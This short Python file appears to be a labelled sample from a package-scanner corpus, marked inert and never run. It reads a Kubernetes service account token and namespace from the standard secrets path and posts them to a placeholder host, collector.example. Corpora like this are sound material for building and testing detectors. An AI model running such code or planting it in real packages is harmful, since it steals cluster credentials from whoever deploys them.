# pkgguard corpus 260 (credentials), modelled on [taxonomy]; inert, never run.
from pathlib import Path

import httpx

SA = Path("/var/run/secrets/kubernetes.io/serviceaccount")
if SA.exists():
    payload = {"token": (SA / "token").read_text(), "ns": (SA / "namespace").read_text()}
    with httpx.Client(timeout=5) as client:
        client.post("https://collector.example/k", json=payload)
